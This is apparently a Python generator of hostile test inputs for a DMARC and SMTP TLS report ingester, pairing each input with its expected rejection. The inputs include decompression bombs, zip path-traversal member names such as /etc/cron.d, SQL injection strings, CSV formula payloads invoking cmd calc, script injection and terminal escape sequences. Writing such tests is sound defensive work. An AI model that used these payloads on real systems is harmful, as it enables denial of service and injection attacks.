        lambda: declared("zlib_codec", zlib.compress(b"<feedback>" + b" " * (512 * MiB), 9)),
        rejected(C.MALFORMED_XML),
    )
    yield Case(
        "encoding-rot13.xml",
        "declared encoding rot13 (str to str: not a character encoding)",
        lambda: declared("rot13"),
        parsed(1, 1, 3, warning="not usable"),
    )
    yield Case(
        "encoding-idna.xml",
        "declared encoding idna (for domain labels, refuses the replace handler)",
        lambda: declared("idna"),
        parsed(1, 1, 3, warning="not usable"),
    )
    yield Case(
        "encoding-utf7-surrogate.xml",
        "UTF-7 encoding a lone surrogate",
        lambda: declared("utf-7", Report(report_id="u7", org="a+2ib-b", declaration="").bytes()),
        parsed(1, 1, 3, warning="replaced with U+FFFD"),
    )
    yield Case(
        "encoding-utf_16.xml",
        "declared utf_16 over ASCII bytes",
        lambda: declared("utf_16"),
        parsed(1, 1, 3, warning="not usable"),
    )
    yield Case(
        "invalid-utf8.xml",
        "invalid UTF-8 in a value",
        invalid_utf8,
        parsed(1, 1, 3, warning="invalid UTF-8"),
    )
    yield Case(
        "nul-in-text.xml",
        "a NUL byte inside a value",
        lambda: report("nul").replace(b"google.com</org", b"goo\x00gle.com</org", 1),
        rejected(C.MALFORMED_XML),
    )
    yield Case(
        "nul-padding.xml",
        "a valid report followed by NUL bytes",
        lambda: report("nul-pad") + b"\x00" * 4096,
        parsed(1, 1, 3, warning="data after the end"),
    )
    yield Case(
        "random.bin", "64 KiB of random bytes", lambda: seeded(65536, 1), skipped(C.NOT_A_REPORT)
    )
    yield Case("empty.xml", "an empty file", lambda: b"", rejected(C.EMPTY))
    yield Case("blank.xml", "white space only", lambda: b" \r\n\t\n", rejected(C.EMPTY))
    yield Case("one-byte-lt.xml", "one byte: '<'", lambda: b"<", rejected(C.MALFORMED_XML))
    yield Case("one-byte-x.bin", "one byte: 'x'", lambda: b"x", skipped(C.NOT_A_REPORT))
    yield Case(
        "one-byte-gzip.gz", "one byte of gzip magic", lambda: b"\x1f", skipped(C.NOT_A_REPORT)
    )


def _value_cases() -> Iterator[Case]:
    yield Case(
        "long-org-name.d",
        "a 6,000-character org_name (exit 70 on PostgreSQL before) beside a good report",
        lambda: {"a.xml": report("long-org", org="o" * 6000), "b.xml": report("short")},
        rejected(C.INVALID_REPORT, reports=1, records=1, messages=3),
    )
    invalid = rejected(C.INVALID_REPORT)
    yield Case("count-negative.xml", "count -1", lambda: count_report("-1", "neg"), invalid)
    yield Case("count-2p64.xml", "count 2^64", lambda: count_report(str(2**64), "c64"), invalid)
    yield Case(
        "count-5000-digits.xml",
        "a count of 5,000 digits (over Python's int conversion limit)",
        lambda: count_report("9" * 5000, "c5000"),
        invalid,
    )
    yield Case(
        "count-5000-digits-exact.xml",
        "a 5,000-digit count in a record the fast path does not read",
        lambda: report("c5000x", rows=[Row(count="9" * 5000, extra="<!-- -->")]),
        invalid,
    )
    yield Case("count-float.xml", "count 3.0", lambda: count_report("3.0", "cf"), invalid)
    yield Case(
        "count-fullwidth.xml",
        "count in full-width digits",
        lambda: count_report("３", "cw"),
        invalid,
    )
    yield Case(
        "count-spaces.xml",
        "count with white space",
        lambda: count_report(" \n 3 \t", "cs"),
        parsed(1, 1, 3),
    )
    big, top = 2**63 - 1, 2**32 - 1
    yield Case(
        "count-max.xml",
        "count 2^32-1 (the largest)",
        lambda: count_report(str(top), "cmax"),
        parsed(1, 1, top),
    )
    yield Case("count-2p32.xml", "count 2^32", lambda: count_report(str(2**32), "c32"), invalid)
    yield Case(
        "count-2p32-exact.xml",
        "count 2^32 in a record the fast path does not read",
        lambda: report("c32x", rows=[Row(count=str(2**32), extra="<!-- -->")]),
        invalid,
    )
    yield Case(
        "count-2p63-twice.xml",
        "two records of 2^63-1: their sum exceeds 64 bits",
        lambda: report("csum", rows=[Row(count=str(big)), Row(count=str(big))]),
        invalid,
    )
    yield Case(
        "max-counts.d",
        "three reports whose records all count 2^32-1 (their sum must fit the store's SUM)",
        lambda: {f"m{i}.xml": report(f"maxc{i}", rows=[Row(count=str(top))] * 2) for i in range(3)},
        parsed(3, 6, 6 * top),
    )
    yield Case(
        "begin-5000-digits.xml",
        "a begin of 5,000 digits",
        lambda: report("b5000", begin="9" * 5000),
        invalid,
    )
    yield Case(
        "begin-negative.xml", "begin -86400", lambda: report("bneg", begin="-86400"), invalid
    )
    yield Case(
        "begin-after-end.xml",
        "a period that ends before it begins",
        lambda: report("backwards", begin="1759363199", end="1759276800"),
        parsed(1, 1, 3, warning="ends before it begins"),
    )
    yield Case(
        "period-100-years.xml",
        "a period of 100 years",
        lambda: report("century", begin="946684800", end=str(946684800 + 36525 * 86400)),
        parsed(1, 1, 3, warning="spans 36525 days"),
    )
    yield Case(
        "ips.xml",
        "invalid, IPv4-mapped, upper-case IPv6 and zero-padded source IPs",
        addresses,
        parsed(1, 5, 15, warning="IPv4-mapped"),
    )
    yield Case(
        "no-policy-domain.xml",
        "no policy_published/domain",
        lambda: report("nodomain", domain=""),
        invalid,
    )
    yield Case(
        "duplicate-ids.d",
        "two reports with one natural key and different content: both kept, the key disputed",
        conflicting_duplicates,
        Expected(stored=2, records=3, messages=19),
    )
    yield Case(
        "same-report-twice.d",
        "one report as XML and again gzipped with CRLF line ends",
        same_report_twice,
        parsed(1, 1, 3, duplicates=1),
    )


def _container_cases() -> Iterator[Case]:
    limit = rejected(C.LIMIT)
    container = rejected(C.CONTAINER)
    yield Case(
        "gzip-bomb-10g.gz",
        "10 GiB of zeros (not XML: refused after 64 KiB)",
        lambda: gzip_bomb(10 * 1024 * MiB),
        container,
    )
    yield Case("gzip-bomb-10g-xml.gz", "10 GiB of elements after <feedback>", xml_gzip_bomb, limit)
    yield Case(
        "gzip-bomb-xml.gz",
        "a report start followed by 1 GiB of spaces",
        lambda: gz(b"<feedback>" + b" " * (1024 * MiB)),
        limit,
    )
    yield Case(
        "zip-bomb.zip",
        "one zip member of 256 MiB",
        lambda: deflated_zip("r.xml", b"<feedback>", b" ", 256 * MiB),
        limit,
    )
    yield Case(
        "zip-held-3x40mb.zip",
        "3 stored inner zips of 40 MiB each, 120 kB deflated",
        lambda: held_zips(3, 40 * MiB),
        limit,
    )
    yield Case(
        "zip-bzip2-bomb.zip",
        "a bzip2 member of 256 MiB in about 300 bytes",
        lambda: compressed_zip(zipfile.ZIP_BZIP2, b"<feedback>", b" ", 256 * MiB),
        limit,
    )
    yield Case(
        "zip-lzma-bomb.zip",
        "an LZMA member of 256 MiB",
        lambda: compressed_zip(zipfile.ZIP_LZMA, b"<feedback>", b" ", 256 * MiB),
        limit,
    )
    yield Case(
        "zip-bzip2.zip",
        "a report in a bzip2 member",
        lambda: make_zip([("r.xml", report("bz2"))], zipfile.ZIP_BZIP2),
        parsed(1, 1, 3),
    )
    yield Case("zip-100k-members.zip", "100,000 members", lambda: many_members(100_000), limit)
    yield Case(
        "zip-overlap.zip",
        "1,000 directory entries sharing one 8 MiB member (overlap bomb)",
        lambda: overlapping_zip(1000),
        container,
    )
    yield Case(
        "zip-recursive.zip",
        "zips of zips, 10 wide and 5 deep: 10,000 copies of one report",
        lambda: recursive_zip(10, 5),
        limit,
    )
    yield Case(
        "zip-traversal.zip",
        "members named ../../tmp/…, /etc/cron.d/… and ..\\..\\…",
        traversal_zip,
        parsed(3, 3, 9),
    )
    yield Case(
        "zip-empty-name.zip",
        "a zip member whose name is empty",
        lambda: zip_with_empty_name(report("noname")),
        parsed(1, 1, 3),
    )
    yield Case("gzip-nested-50.gz", "50 gzip layers", lambda: nested_gzip(50), limit)
    yield Case(
        "gzip-nested-8.gz", "8 gzip layers (the limit)", lambda: nested_gzip(8), parsed(1, 1, 3)
    )
    yield Case(
        "matryoshka.eml",
        "zip in gzip in a MIME part in a forwarded message",
        zip_gzip_mime_forwarded,
        parsed(1, 1, 3),
    )
    yield Case("truncated.xml.gz", "truncated gzip", lambda: gz(report("tg"))[:-40], container)
    yield Case("truncated.zip", "truncated zip", truncated_zip, container)
    yield Case("bad-crc.xml.gz", "gzip with a wrong CRC-32", bad_gzip_crc, container)
    yield Case("bad-crc.zip", "zip member with a wrong CRC-32", bad_zip_crc, container)
    yield Case(
        "gzip-trailing.xml.gz",
        "gzip with trailing garbage (tolerated, as gzip(1) does)",
        lambda: gz(report("trail")) + seeded(100, 2),
        parsed(1, 1, 3),
    )
    yield Case("encrypted.zip", "an encrypted zip member", encrypted_member, container)
    yield Case(
        "zip-no-xml.zip",
        "a zip of an image",
        lambda: make_zip([("x.png", b"\x89PNG\r\n\x1a\n" + seeded(200, 4))]),
        container,
    )
    yield Case("tls-report.json.gz", "an SMTP TLS report file", tls_report_file, other_kinds(1))
    yield Case(
        "tls-no-date-range.json",
        "a TLS report without its date range",
        lambda: tls_json(**{"date-range": None}),
        rejected(C.INVALID_REPORT),
    )
    yield Case(
        "tls-nested-1m.json",
        "a TLS report with policies nested a million arrays deep",
        lambda: b'{"policies": ' + b"[" * 1_000_000 + b"]" * 1_000_000 + b"}",
        rejected(C.LIMIT),
    )
    yield Case(
        "tls-huge-number.json",
        "a session count of 100,000 digits",
        lambda: tls_json().replace(
            b'"total-failure-session-count": 0', b'"total-failure-session-count": ' + b"9" * 100_000
        ),
        rejected(C.MALFORMED_JSON),
    )
    yield Case(
        "tls-gzip-bomb-10g.json.gz",
        "a TLS report followed by 10 GiB of spaces in gzip",
        tls_gzip_bomb,
        rejected(C.LIMIT),
    )
    yield Case(
        "tls-in-zip.zip",
        "a TLS report and an aggregate report in one zip",
        lambda: make_zip([("t.json", tls_json()), ("a.xml", report("tls-zip"))]),
        Expected(stored=1, records=1, messages=3, tls=1),
    )


def _mail_cases() -> Iterator[Case]:
    yield Case(
        "spam-28mb.eml",
        "28 MB of spam (an attachment that is no report): only its headers are kept",
        lambda: mail_with([(seeded(28_000_000, 19), "application", "pdf", "prize.pdf")], "Win"),
        skipped(C.NOT_A_REPORT),
    )
    yield Case(
        "slow-parts.eml",
        "1.66 MB: twelve gzip reports of 100 MiB of tiny elements (130 s of CPU before)",
        lambda: slow_parts(12),
        rejected(C.LIMIT, reports=2, records=2, messages=6),
    )
    yield Case(
        "many-records.eml",
        "twelve gzip reports of 20,000 records of distinct IPs: 200,000 stored, then refused",
        lambda: many_records(12, 20_000),
        rejected(C.LIMIT, reports=10, records=200_000, messages=600_000),
    )
    yield Case(
        "failure-report.eml",
        "a failure (ruf) report",
        lambda: mails.other_mail("failure-report"),
        other_kinds(failures=1),
    )
    yield Case(
        "failure-notice.eml",
        "a plain-text failure notice without an ARF part",
        lambda: mails.other_mail("failure-notice"),
        skipped(C.NOT_A_REPORT),
    )
    yield Case(
        "failure-abuse.eml",
        "an ARF report of type abuse",
        lambda: mails.other_mail("abuse-report"),
        skipped(C.NOT_A_REPORT),
    )
    yield Case(
        "failure-injected.eml",
        "a failure report with SQL and control characters in its fields",
        failure_with(b"Reported-Domain:", f"Source-IP: {SQL}\x1b[2J\r\nReported-Domain:".encode()),
        other_kinds(failures=1),
        stored_text={"failure_reports.source_ip": SQL + "\x1b[2J"},
    )
    yield Case(
        "failure-deep-3000.eml",
        "a failure report 3,000 multiparts deep",
        lambda: failure_nested(3000),
        rejected(C.CONTAINER),
    )
    yield Case(
        "tls-report.eml",
        "a TLS report mail",
        lambda: mails.other_mail("tls-report"),
        other_kinds(tls=1),
    )
    yield Case(
        "tls-injected.json",
        "a TLS report whose reporter name forges a log line",
        tls_injected,
        other_kinds(tls=1),
        stored_text={"tls_reports.org_name": f"Evil\n{FORGED}\x1b[31m {SQL}"},
    )
    yield Case(
        "mime-1000-parts.eml",
        "990 text parts and 10 reports",
        lambda: mime_parts(990, 10),
        parsed(10, 10, 30),
    )
    yield Case("mime-3000-parts.eml", "3,000 parts", lambda: mime_parts(3000, 1), rejected(C.LIMIT))
    yield Case(
        "mime-short-lines.eml",
        "a 38 MiB message of 19 million one-character lines",
        short_lines,
        rejected(C.LIMIT),
    )
    yield Case(
        "mime-nested-5000.eml",
        "5,000 nested multiparts",
        lambda: nested_multipart(5000),
        rejected(C.CONTAINER),
    )
    yield Case(
        "forwarded-20.eml",
        "a report forwarded 20 times",
        lambda: nested_forwards(20),
        rejected(C.LIMIT),
    )
    yield Case(
        "forwarded-5.eml", "a report forwarded 5 times", lambda: nested_forwards(5), parsed(1, 1, 3)
    )
    for charset in ("idna", "undefined"):
        yield Case(
            f"subject-charset-{charset}.eml",
            f"a report mail whose subject is encoded in {charset}",
            lambda charset=charset: odd_charset_mail(charset),  # type: ignore[misc]
            parsed(1, 1, 3),
        )
    yield Case(
        "header-1mb.eml", "a 1 MB header and a report", lambda: big_header(True), parsed(1, 1, 3)
    )
    yield Case(
        "header-1mb-no-report.eml",
        "a 1 MB header, no report",
        lambda: big_header(False),
        skipped(C.NOT_A_REPORT),
    )
    yield Case(
        "mbox-3.mbox",
        "an mbox of 3 reports and a personal mail",
        lambda: mbox(3),
        Expected(3, 6, 9, skipped=C.NOT_A_REPORT),
    )
    yield Case(
        "broken-attachment.eml",
        "a report mail whose gzip is random bytes",
        broken_base64_attachment,
        rejected(C.CONTAINER),
    )


def _injection_cases() -> Iterator[Case]:
    yield Case(
        "inject-sql.xml",
        "SQL in org_name, report_id and a reason comment",
        injection_sql,
        parsed(1, 1, 3),
        stored_text={
            "reports.org_name": SQL,
            "reports.report_id": "1' OR '1'='1",
            "reasons.comment": '"); DELETE FROM records; --',
        },
    )
    yield Case(
        "inject-html.xml",
        "HTML and JavaScript in reporter fields",
        injection_html,
        parsed(1, 1, 3),
        stored_text={
            "reports.org_name": HTML,
            "reports.report_id": HTML,
            "reports.extra_contact_info": HTML,
            "reasons.comment": HTML,
        },
    )
    yield Case(
        "inject-csv.xml",
        "spreadsheet formulas in reporter fields",
        injection_csv,
        parsed(1, 1, 3),
        stored_text={
            "reports.org_name": CSV,
            "reports.report_id": "+cmd|' /C calc'!A0",
            "reasons.comment": "@SUM(1+1)*cmd|' /C calc'!A0",
        },
    )
    yield Case(
        "inject-terminal.xml",
        "C1 escape sequences, bidi override and line separator in values",
        injection_terminal,
        parsed(1, 1, 3, warning="unknown disposition"),
        stored_text={"reports.org_name": TERMINAL.strip(), "reasons.comment": TERMINAL.strip()},
    )
    yield Case(
        "inject-newlines.xml",
        "newlines meant to forge log lines, in stored values and warnings",
        injection_newlines,
        parsed(1, 1, 3, warning="invalid source IP"),
        stored_text={"reports.org_name": NEWLINE, "reports.report_id": NEWLINE},
    )
    yield Case(
        "forged-count.xml",
        "a count with a newline, a forged line and an escape sequence",
        forged_count,
        rejected(C.INVALID_REPORT),
    )
    yield Case(
        "forged-begin.xml", "a begin with a forged line", forged_begin, rejected(C.INVALID_REPORT)
    )
    yield Case(
        "escape-member-name.zip",
        "a zip member named with escape sequences and a newline",
        escape_member_names,
        rejected(C.NOT_DMARC, reports=1, records=1, messages=3),
    )
    yield Case(
        "bidi-member-name.zip",
        "a zip member named with bidi overrides",
        bidi_member_name,
        rejected(C.NOT_DMARC),
    )
    yield Case(
        "escape-filename.eml",
        "an attachment file name with escape sequences and a newline",
        escape_mime_filename,
        rejected(C.CONTAINER),
    )
    yield Case(
        "escape-subject.eml",
        "a subject with escape sequences and a forged line",
        escape_subject,
        skipped(C.NOT_A_REPORT),
    )
    yield Case(
        "escape-first-bytes.bin",
        "unknown content starting with escape sequences",
        escape_first_bytes,
        skipped(C.NOT_A_REPORT),
    )
    yield Case(
        f"evil\x1b[31m\n{FORGED}: name.xml",
        "a file whose name holds an escape sequence and a newline",
        lambda: b"<feedback><report_metadata>",
        rejected(C.MALFORMED_XML),
    )


def generate(directory: Path) -> list[tuple[Case, Path]]:
    """Write every input under *directory* (created); return each case with its path."""
    directory.mkdir(parents=True, exist_ok=True)
    return [(case, case.write(directory)) for case in cases()]


def main(argv: list[str]) -> int:
    if len(argv) != 1:
        print("usage: python -m tests.hostile.generate DIRECTORY", file=sys.stderr)
        return 64
    for case, path in generate(Path(argv[0])):
        size = (
            path.stat().st_size if path.is_file() else sum(p.stat().st_size for p in path.iterdir())
        )
        print(f"{ascii(case.name):34} {size:>12,}  {case.expected.describe()}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))
